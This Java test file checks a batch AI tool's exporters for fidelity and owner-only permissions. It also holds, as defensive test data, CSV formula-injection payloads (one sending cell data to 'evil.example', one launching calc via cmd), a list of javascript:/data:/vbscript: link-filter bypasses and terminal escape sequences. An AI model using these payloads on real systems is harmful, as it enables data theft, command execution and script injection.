package dev.dmrbatch.export;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import dev.dmrbatch.check.CheckStore;
import dev.dmrbatch.config.DmrProperties;
import dev.dmrbatch.conversation.Conversation;
import dev.dmrbatch.conversation.ConversationStore;
import dev.dmrbatch.conversation.RunRecord;
import dev.dmrbatch.input.InputItem;
import dev.dmrbatch.input.InputReaders;
import dev.dmrbatch.input.InputSource;
import dev.dmrbatch.support.Kinds;
import dev.dmrbatch.support.TestProperties;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.flywaydb.core.Flyway;
import org.h2.jdbcx.JdbcDataSource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

import org.springframework.batch.infrastructure.item.ExecutionContext;
import org.springframework.batch.infrastructure.item.ItemStreamReader;
import org.springframework.jdbc.core.JdbcTemplate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Every export read back and compared with what the store holds. */
class ExportsTest {

	private static final JsonMapper JSON = JsonMapper.builder().build();

	static final String MARKDOWN_ANSWER = """
			# Findings

			Some **bold words** and *italic ones*, then a list:

			- first, with a comma
			- second — with a dash

			`inline code` and non-ASCII: café, über, it’s, Привет мир, Ελληνικά.""";

	static final String PLAIN_ANSWER = "plain, with \"quotes\"\nand a second line";

	@TempDir
	Path dir;

	ConversationStore store;

	Exports exports;

	CheckStore checkStore;

	RunRecord run;

	@BeforeEach
	void setUp() {
		JdbcDataSource data = new JdbcDataSource();
		data.setURL("jdbc:h2:mem:" + this.dir.getFileName() + ";DB_CLOSE_DELAY=-1");
		data.setUser("sa");
		Flyway.configure().dataSource(data).locations("classpath:db/migration/common", "classpath:db/migration/h2").load().migrate();
		this.store = new ConversationStore(new JdbcTemplate(data));
		this.checkStore = new CheckStore(new JdbcTemplate(data));
		this.exports = exports(TestProperties.home(this.dir));
		this.run = new RunRecord(7, "extract", "first", "input/items.csv", this.dir.resolve("out").toString(),
				"{\"name\":\"ai/tiny\",\"max_tokens\":64}", Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(this.run);
		Conversation ok = Conversation.answered(1, "a,1", "ai/tiny",
				List.of(new Conversation.Turn("system", null, "Be brief."),
						new Conversation.Turn("user", "summary", "Summarize \"this\", please:\nline two"),
						new Conversation.Turn("assistant", "summary", MARKDOWN_ANSWER),
						new Conversation.Turn("user", "keywords", "Keywords?"),
						new Conversation.Turn("assistant", "keywords", PLAIN_ANSWER)),
				List.of(Conversation.Call.answered(0, "summary").finishReason("stop").tokens(30, 40).latency(12)
						.attempts(1).build(),
						Conversation.Call.answered(1, "keywords").finishReason("length").tokens(50, 8).latency(9)
								.attempts(2).build()));
		Conversation failed = Conversation.failed(2, "b", "ai/tiny",
				"variable 'title' is missing in template summarize.ftl line 3", List.of(), List.of());
		this.store.saveAll(7, List.of(ok, failed));
	}

	private Path out(String file) {
		return this.dir.resolve("out").resolve(file);
	}

	@Test
	void aRunLongerThanOnePageIsExportedWholeAndInOrder() throws Exception {
		// given: record numbers across three pages, with a gap at the page boundary (blank lines are not stored)
		RunRecord big = new RunRecord(8, "big", null, "input/big.csv", this.dir.resolve("big").toString(), null,
				Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(big);
		List<Conversation> conversations = new ArrayList<>();
		for (long seq = 1; seq <= 2100; seq++) {
			if (seq == 1000 || seq == 1001) {
				continue;
			}
			conversations.add(Conversation.answered(seq, "i" + seq, "ai/tiny",
					List.of(new Conversation.Turn("user", "answer", "q" + seq),
							new Conversation.Turn("assistant", "answer", "a" + seq)),
					List.of(Conversation.Call.answered(0, "answer").finishReason("stop").tokens(1, 1).latency(1)
							.attempts(1).build())));
		}
		this.store.saveAll(8, conversations);

		// when
		this.exports.write(big, List.of("jsonl"));

		// then
		List<String> lines = Files.readAllLines(this.dir.resolve("big/results.jsonl"));
		assertThat(lines).hasSize(2098);
		assertThat(lines).extracting((line) -> JSON.readValue(line, Map.class).get("id"))
			.startsWith("i1", "i2")
			.contains("i999", "i1002", "i2000")
			.endsWith("i2100")
			.doesNotHaveDuplicates();
		assertThat(JSON.readValue(lines.get(1500), Map.class).get("steps")).isEqualTo(Map.of("answer", "a1503"));
	}

	@Test
	@SuppressWarnings("unchecked")
	void everyFormatHoldsEveryItemAsTheStoreHasIt() throws Exception {
		List<Path> files = this.exports.write(this.run, List.of("jsonl", "json", "markdown", "text", "csv", "pdf"));
		assertThat(files).extracting((p) -> p.getFileName().toString())
			.containsExactly("results.jsonl", "results.json", "results.md", "results.txt", "results.csv", "results.pdf");

		// jsonl: one line per item, every field
		List<String> lines = Files.readAllLines(out("results.jsonl"));
		assertThat(lines).hasSize(2);
		Map<String, Object> first = JSON.readValue(lines.get(0), Map.class);
		assertThat(first).containsEntry("id", "a,1").containsEntry("status", "ok").containsEntry("model", "ai/tiny");
		assertThat((Map<String, Object>) first.get("steps")).containsEntry("summary", MARKDOWN_ANSWER)
			.containsEntry("keywords", PLAIN_ANSWER);
		assertThat((List<Map<String, String>>) first.get("messages")).hasSize(5)
			.element(1)
			.isEqualTo(Map.of("role", "user", "content", "Summarize \"this\", please:\nline two"));
		assertThat((Map<String, Object>) first.get("usage")).containsEntry("prompt_tokens", 80)
			.containsEntry("completion_tokens", 48);
		Map<String, Object> second = JSON.readValue(lines.get(1), Map.class);
		assertThat(second).containsEntry("status", "failed")
			.containsEntry("error", "variable 'title' is missing in template summarize.ftl line 3");

		// json: the run's facts and the same items
		Map<String, Object> json = JSON.readValue(out("results.json").toFile(), Map.class);
		assertThat((Map<String, Object>) json.get("run")).containsEntry("job", "extract")
			.containsEntry("run", "first")
			.containsEntry("items", 2)
			.containsEntry("ok", 1)
			.containsEntry("failed", 1)
			.containsEntry("prompt_tokens", 80)
			.containsEntry("model", Map.of("name", "ai/tiny", "max_tokens", 64));
		assertThat((List<Object>) json.get("items")).containsExactly(first, second);

		// csv: parsed back by an RFC 4180 reader, cell by cell
		ItemStreamReader<InputItem> csv = InputReaders.reader(new InputSource(Kinds.inputFormat("csv"), out("results.csv"), "id", "csv"));
		csv.open(new ExecutionContext());
		List<InputItem> rows = new ArrayList<>();
		for (InputItem row = csv.read(); row != null; row = csv.read()) {
			rows.add(row);
		}
		csv.close();
		assertThat(rows).hasSize(2);
		assertThat(rows.get(0).error()).isNull();
		assertThat(rows.get(0).fields()).containsEntry("id", "a,1")
			.containsEntry("summary", MARKDOWN_ANSWER)
			.containsEntry("keywords", PLAIN_ANSWER)
			.containsEntry("prompt_tokens", "80")
			.containsEntry("completion_tokens", "48");
		assertThat(rows.get(1).fields()).containsEntry("status", "failed")
			.containsEntry("error", "variable 'title' is missing in template summarize.ftl line 3")
			.containsEntry("summary", "");
		assertThat(Files.readAllBytes(out("results.csv"))).startsWith(0xEF, 0xBB, 0xBF);

		// markdown and text: the prompts, the answers and the failure, readable
		String markdown = Files.readString(out("results.md"));
		assertThat(markdown).startsWith("# extract — run first")
			.contains("## a,1")
			.contains("Summarize \"this\", please:\nline two")
			.contains(MARKDOWN_ANSWER)
			.contains("## b — failed")
			.contains("variable 'title' is missing");
		assertThat(Files.readString(out("results.txt"))).contains("==== a,1 (ok, ai/tiny)")
			.contains(PLAIN_ANSWER)
			.contains("ERROR: variable 'title' is missing");

		// pdf: every answer's text, non-ASCII as itself, Markdown laid out rather than printed
		try (PDDocument pdf = Loader.loadPDF(out("results.pdf").toFile())) {
			String text = new PDFTextStripper().getText(pdf);
			assertThat(text).contains("extract run first")
				.contains("Findings")
				.contains("Some bold words and italic ones, then a list:")
				.contains("first, with a comma")
				.contains("inline code")
				.contains("café, über, it’s, Привет мир, Ελληνικά.")
				.contains("plain, with \"quotes\"")
				.contains("variable 'title' is missing in template summarize.ftl line 3")
				.contains("page 1")
				.doesNotContain("**")
				.doesNotContain("?????");
		}
	}

	@Test
	void anEmptyRunsJsonlIsAnEmptyFile() throws Exception {
		RunRecord empty = new RunRecord(9, "empty", null, "input/none.jsonl", this.dir.resolve("empty").toString(), null,
				Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(empty);
		this.exports.write(empty, List.of("jsonl"));
		assertThat(this.dir.resolve("empty/results.jsonl")).isEmptyFile();

		this.exports.write(this.run, List.of("jsonl"));
		assertThat(Files.readString(out("results.jsonl"))).endsWith("}\n").doesNotEndWith("\n\n");
	}

	@Test
	void aLayoutNamingSomethingTheRunDoesNotHaveNamesTheLayoutTheLineAndTheExpression() throws Exception {
		Path layout = this.dir.resolve("templates/export/results.md.ftl");
		Files.createDirectories(layout.getParent());
		Files.writeString(layout, """
				<#macro header run>Run ${run.run}
				</#macro>
				<#macro item c>* ${c.no_such_field}
				</#macro>
				<#macro footer run></#macro>
				""");
		Exports custom = exports(TestProperties.home(this.dir));
		assertThatThrownBy(() -> custom.write(this.run, List.of("markdown")))
			.hasMessage("export layout export/results.md.ftl line 3: c.no_such_field is null or missing");
	}

	@Test
	void aLayoutInTheWorkingFolderReplacesTheBuiltInOne() throws Exception {
		Path layout = this.dir.resolve("templates/export/results.md.ftl");
		Files.createDirectories(layout.getParent());
		Files.writeString(layout, """
				<#macro header run>Run ${run.run} of ${run.job}
				</#macro>
				<#macro item c>* ${c.id}: ${c.status}<#if c.steps.keywords??> / ${c.steps.keywords?replace("\\n", " ")}</#if>
				</#macro>
				<#macro footer run>(${run.items})
				</#macro>
				""");
		Exports custom = exports(TestProperties.home(this.dir));
		custom.write(this.run, List.of("markdown"));
		assertThat(Files.readString(out("results.md"))).isEqualTo("""
				Run first of extract
				* a,1: ok / plain, with "quotes" and a second line
				* b: failed
				(2)
				""");
	}

	@Test
	@SuppressWarnings("unchecked")
	void csvCellsThatASpreadsheetWouldEvaluateAreWrittenAsTextAndJsonKeepsThemExact() throws Exception {
		// given: an id, an error, answers and a prompt that a spreadsheet would take for formulas
		List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0",
				"-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1");
		RunRecord risky = new RunRecord(9, "risky", null, "input/items.csv", this.dir.resolve("risky").toString(), null,
				Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(risky);
		List<Conversation> conversations = new ArrayList<>();
		for (int i = 0; i < formulas.size(); i++) {
			String formula = formulas.get(i);
			conversations.add(Conversation.failed(i + 1, formula + i, "ai/tiny", formula,
					List.of(new Conversation.Turn("user", "answer", formula), new Conversation.Turn("assistant", "answer", formula)),
					List.of(Conversation.Call.answered(0, "answer").finishReason("stop").tokens(1, 1).latency(1)
							.attempts(1).build())));
		}
		this.store.saveAll(9, conversations);

		// when
		this.exports.write(risky, List.of("csv", "jsonl"));

		// then: every such cell is quoted and starts with a single quote, read back as the value behind that quote
		String raw = Files.readString(this.dir.resolve("risky/results.csv"));
		for (String formula : formulas) {
			assertThat(raw).contains("\"'" + formula.replace("\"", "\"\"")).doesNotContain("," + formula);
		}
		ItemStreamReader<InputItem> csv = InputReaders
			.reader(new InputSource(Kinds.inputFormat("csv"), this.dir.resolve("risky/results.csv"), "id", "csv"));
		csv.open(new ExecutionContext());
		List<InputItem> rows = new ArrayList<>();
		for (InputItem row = csv.read(); row != null; row = csv.read()) {
			rows.add(row);
		}
		csv.close();
		assertThat(rows).hasSize(formulas.size());
		for (int i = 0; i < formulas.size(); i++) {
			String formula = formulas.get(i);
			assertThat(rows.get(i).fields()).containsEntry("id", "'" + formula + i)
				.containsEntry("error", "'" + formula)
				.containsEntry("answer", "'" + formula);
		}
		// and JSON Lines keeps every value exact
		List<String> lines = Files.readAllLines(this.dir.resolve("risky/results.jsonl"));
		for (int i = 0; i < formulas.size(); i++) {
			Map<String, Object> item = JSON.readValue(lines.get(i), Map.class);
			assertThat(item).containsEntry("id", formulas.get(i) + i).containsEntry("error", formulas.get(i));
			assertThat((Map<String, Object>) item.get("steps")).containsEntry("answer", formulas.get(i));
		}
	}

	/** Links that filters on the written text miss: entities, case, controls and blanks in the scheme. */
	static final List<String> LINK_BYPASSES = List.of("[a](&#106;avascript:alert(1))", "[b](&#x6A;avascript:alert(1))",
			"[c](&#0000106avascript:alert(1))", "[d](JaVaScRiPt:alert(1))", "[e](jav&#x09;ascript:alert(1))",
			"[f](java&#x0A;script:alert(1))", "[g](java&Tab;script:alert(1))", "[h](<java script:alert(1)>)",
			"[i](<\u0001javascript:alert(1)>)", "[j](&#32;javascript:alert(1))", "<javascript:alert(1)>",
			"<JAVASCRIPT:alert(1)>", "[k](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
			"[l](&#100;ata:text/html,x)", "[m](DaTa:text/html,x)", "[n](vbscript:msgbox(1))", "[o](&#118;bscript:x)",
			"[p](VBScript:x)", "[q][ref]\n\n[ref]: &#106;avascript:alert(1)", "[r](file:///etc/passwd)",
			"[s](javascript&colon;alert(1))", "[t](jav\tascript:alert(1))", "![u](javascript:alert(1))",
			"<a href=\"jav&#x09;ascript:alert(1)\">v</a>", "<a href=\"&#106;avascript:alert(1)\">w</a>",
			"<img src=\"javascript:alert(1)\">", "[x](ftp://example.com/file)");

	@Test
	void reportLinksKeepOnlyAllowedSchemesWhateverTheirSpelling() throws Exception {
		// given: answers and a prompt with links that must die, and the kinds that must live
		RunRecord links = new RunRecord(10, "links", null, "input/items.csv", this.dir.resolve("links").toString(), null,
				Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(links);
		List<Conversation> conversations = new ArrayList<>();
		String all = String.join("\n\n", LINK_BYPASSES);
		List<String> answers = new ArrayList<>(LINK_BYPASSES);
		answers.add(all);
		answers.add("[web](https://example.com/a?b=1) [plain](http://example.com) [mail](mailto:a@example.com) "
				+ "[page](other.html#part) [top](#top)");
		for (int i = 0; i < answers.size(); i++) {
			conversations.add(Conversation.answered(i + 1, "i" + i, "ai/tiny",
					List.of(new Conversation.Turn("user", "answer", all), new Conversation.Turn("assistant", "answer", answers.get(i))),
					List.of(Conversation.Call.answered(0, "answer").finishReason("stop").tokens(1, 1).latency(1)
							.attempts(1).build())));
		}
		this.store.saveAll(10, conversations);

		// when
		this.exports.write(links, List.of("html"));

		// then: read as a browser reads it, no link or source has a scheme outside http, https and mailto
		org.jsoup.nodes.Document report = org.jsoup.Jsoup.parse(this.dir.resolve("links/report.html").toFile());
		List<String> urls = new ArrayList<>();
		for (org.jsoup.nodes.Element element : report.select("[href], [src], [action], [formaction], [xlink:href]")) {
			for (org.jsoup.nodes.Attribute attribute : element.attributes()) {
				if (List.of("href", "src", "action", "formaction", "xlink:href").contains(attribute.getKey())) {
					urls.add(attribute.getValue());
				}
			}
		}
		assertThat(urls).isNotEmpty().allSatisfy((url) -> {
			// what browsers do with a URL before they read its scheme
			String seen = url.replaceAll("[\\t\\n\\r]", "").replaceAll("^[\\x00-\\x20]+", "").toLowerCase();
			java.util.regex.Matcher scheme = java.util.regex.Pattern.compile("^([a-z][a-z0-9+.-]*):").matcher(seen);
			if (scheme.find()) {
				assertThat(scheme.group(1)).as(url).isIn("http", "https", "mailto");
			}
		});
		assertThat(urls).contains("https://example.com/a?b=1", "http://example.com", "mailto:a@example.com",
				"other.html#part", "#top");
		assertThat(report.select(".answer").select("img, iframe, object, embed, form, svg, math, style")).isEmpty();
		assertThat(report.select(".answer")).hasSize(answers.size());
	}

	@Test
	@SuppressWarnings("unchecked")
	void documentsShowControlCharactersAsTheirPicturesAndDataFormatsKeepThemExact() throws Exception {
		// given: an id, a prompt, an answer and an error holding ESC, BEL, NUL and a C1 control, and an answer that
		// quotes the text of an escape
		String hostile = "Roses are \u001b[0;31mred\u001b]0;title\u0007 nul\u0000 csi\u009b end";
		String quoted = "print(\"\\u001b[31m\")";
		RunRecord controls = new RunRecord(11, "controls", null, "input/items.csv",
				this.dir.resolve("controls").toString(), null, Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(controls);
		this.store.saveAll(11, List.of(
				Conversation.answered(1, "id-" + hostile, "ai/tiny",
						List.of(new Conversation.Turn("user", "answer", "prompt " + hostile),
								new Conversation.Turn("assistant", "answer", "answer " + hostile + "\n\nquoted " + quoted)),
						List.of(Conversation.Call.answered(0, "answer").finishReason("stop").tokens(1, 1).latency(1)
								.attempts(1).build())),
				Conversation.failed(2, "two", "ai/tiny", "error " + hostile, List.of(), List.of())));

		// when
		this.exports.write(controls, List.of("jsonl", "json", "csv", "markdown", "text", "pdf", "html"));

		// then: every document shows each control as the same picture, and the quoted text of an escape as written
		String shown = "Roses are ␛[0;31mred␛]0;title␇ nul␀ csi[U+009B] end";
		Map<String, String> documents = new LinkedHashMap<>();
		for (String file : List.of("results.txt", "results.md")) {
			documents.put(file, Files.readString(this.dir.resolve("controls").resolve(file)));
		}
		try (PDDocument pdf = Loader.loadPDF(this.dir.resolve("controls/results.pdf").toFile())) {
			documents.put("results.pdf", new PDFTextStripper().getText(pdf));
		}
		documents.put("report.html", org.jsoup.Jsoup.parse(this.dir.resolve("controls/report.html").toFile()).text());
		documents.forEach((file, text) -> assertThat(text).as(file)
			.doesNotContain("\u001b", "\u0007", "\u0000", "\u009b")
			.contains("id-" + shown, "prompt " + shown, "answer " + shown, "error " + shown, "quoted " + quoted));
		assertThat(Files.readString(this.dir.resolve("controls/report.html"))).doesNotContain("\u001b", "\u0000");
		// the data formats hold the text exactly (JSON escapes controls itself)
		List<String> lines = Files.readAllLines(this.dir.resolve("controls/results.jsonl"));
		Map<String, Object> first = JSON.readValue(lines.get(0), Map.class);
		assertThat(first).containsEntry("id", "id-" + hostile);
		assertThat((Map<String, Object>) first.get("steps")).containsEntry("answer",
				"answer " + hostile + "\n\nquoted " + quoted);
		assertThat(JSON.readValue(lines.get(1), Map.class)).containsEntry("error", "error " + hostile);
		assertThat(Files.readString(this.dir.resolve("controls/results.json"))).doesNotContain("\u001b", "␛")
			.containsIgnoringCase("Roses are \\u001b[0;31mred");
		assertThat(Files.readString(this.dir.resolve("controls/results.csv"))).contains("id-" + hostile)
			.contains("error " + hostile);
	}

	@Test
	void everyExportIsReadableByItsOwnerOnly() throws Exception {
		org.junit.jupiter.api.Assumptions
			.assumeTrue(java.nio.file.FileSystems.getDefault().supportedFileAttributeViews().contains("posix"));
		// given: a run with a vector (embeddings.npy) whose output folder is not there yet, under a umask that lets
		// others read what is created (022)
		Path created = Files.createFile(this.dir.resolve("umask-probe"));
		assertThat(permissions(created)).as("the umask these tests run under").isEqualTo("rw-r--r--");
		Path folder = this.dir.resolve("output/private/run-1");
		RunRecord run = new RunRecord(12, "private", null, "input/items.csv", folder.toString(), null,
				Instant.parse("2026-11-25T10:00:00Z"));
		this.store.registerRun(run);
		this.store.saveAll(12, List.of(Conversation.answered(1, "a", "ai/tiny",
				List.of(new Conversation.Turn("user", "answer", "secret prompt"),
						new Conversation.Turn("assistant", "answer", "secret answer")),
				List.of(Conversation.Call.answered(0, "answer").finishReason("stop").tokens(1, 1).latency(1).attempts(1)
						.httpStatus(200).embedding("[0.5, -0.25]").build()))));
		List<String> formats = List.of("jsonl", "json", "markdown", "text", "csv", "pdf", "html", "junit", "openai-batch");

		// when
		List<Path> files = this.exports.write(run, formats);

		// then: the folders it made and every file in them are their owner's only
		assertThat(files).extracting((file) -> file.getFileName().toString()).contains("embeddings.npy", "output.jsonl");
		assertOwnerOnly(folder);
		assertThat(permissions(this.dir.resolve("output"))).isEqualTo("rwx------");
		assertThat(permissions(this.dir.resolve("output/private"))).isEqualTo("rwx------");

		// and a file an earlier version left readable by everyone is its owner's only once written again
		Files.setPosixFilePermissions(folder.resolve("results.jsonl"),
				java.nio.file.attribute.PosixFilePermissions.fromString("rw-r--r--"));
		this.exports.write(run, formats);
		assertOwnerOnly(folder);
	}

	static void assertOwnerOnly(Path folder) throws java.io.IOException {
		assertThat(permissions(folder)).as(folder.toString()).isEqualTo("rwx------");
		try (java.util.stream.Stream<Path> all = Files.walk(folder)) {
			List<Path> files = all.filter((path) -> !path.equals(folder)).toList();
			assertThat(files).isNotEmpty().allSatisfy((file) -> assertThat(permissions(file)).as(file.toString())
				.isEqualTo(Files.isDirectory(file) ? "rwx------" : "rw-------"));
		}
	}

	static String permissions(Path path) throws java.io.IOException {
		return java.nio.file.attribute.PosixFilePermissions.toString(Files.getPosixFilePermissions(path));
	}

	@Test
	void csvQuotingFollowsRfc4180() {
		assertThat(CsvExporter.quote("plain")).isEqualTo("plain");
		assertThat(CsvExporter.quote("a,b")).isEqualTo("\"a,b\"");
		assertThat(CsvExporter.quote("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
		assertThat(CsvExporter.quote("two\nlines")).isEqualTo("\"two\nlines\"");
		assertThat(CsvExporter.quote(" padded")).isEqualTo("\" padded\"");
	}

	private Exports exports(DmrProperties properties) {
		return new Exports(this.store, this.checkStore, properties,
				Kinds.exportFormats(Kinds.plugins(properties)));
	}

}
